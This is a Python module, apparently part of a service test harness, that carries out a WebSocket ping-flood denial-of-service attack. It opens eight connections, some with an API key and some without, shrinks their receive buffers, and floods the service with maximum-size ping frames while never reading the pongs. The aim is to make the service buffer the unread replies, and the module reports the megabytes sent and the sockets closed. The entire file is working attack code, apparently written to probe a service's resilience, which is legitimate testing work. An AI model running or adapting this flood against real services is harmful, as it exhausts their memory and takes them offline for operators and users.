"""WebSockets that ping and never read a pong."""

from __future__ import annotations

import base64
import os
import select
import socket
import time
from typing import Dict, List

from outcome import Outcome
from service import Target

# The largest ping there may be, masked with zeros: its bytes are what they are.
PING = b"\x89\xfd" + bytes(4) + bytes(125)
# A whole number of them.
CHUNK = PING * 500


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """Four sockets with a key and four without, which ping as fast as they may."""
    sockets = [opened(target, source, key) for key in (target.keys["greedy"], "none") for _ in range(4)]
    at: Dict[int, int] = {each.fileno(): 0 for each in sockets}
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and sockets:
        _, writable, _ = select.select([], sockets, [], 0.2)
        for each in writable:
            try:
                more = each.send(CHUNK[at[each.fileno()] :])
            except BlockingIOError:
                continue
            except OSError:
                sockets.remove(each)
                each.close()
                continue
            at[each.fileno()] = (at[each.fileno()] + more) % len(CHUNK)
            sent += more
        # Not the whole of a core.
        time.sleep(0.001)
    ended = 8 - len(sockets)
    for each in sockets:
        each.close()
    return Outcome(f"{sent >> 20:,} MiB of pings were taken, {ended} of 8 sockets closed by the service")


def opened(target: Target, source: str, key: str) -> socket.socket:
    connection = socket.socket()
    # What is not read is kept by the service, and not by the kernel.
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(5)
    connection.bind((source, 0))
    connection.connect(target.rest)
    lines: List[str] = [
        f"GET /ws?session=greedy&x-api-key={key} HTTP/1.1",
        "Host: localhost",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}",
    ]
    connection.sendall("\r\n".join([*lines, "", ""]).encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        more = connection.recv(1)
        assert more, f"no WebSocket: {answer!r}"
        answer += more
    assert answer.startswith(b"HTTP/1.1 101"), answer
    connection.setblocking(False)
    return connection
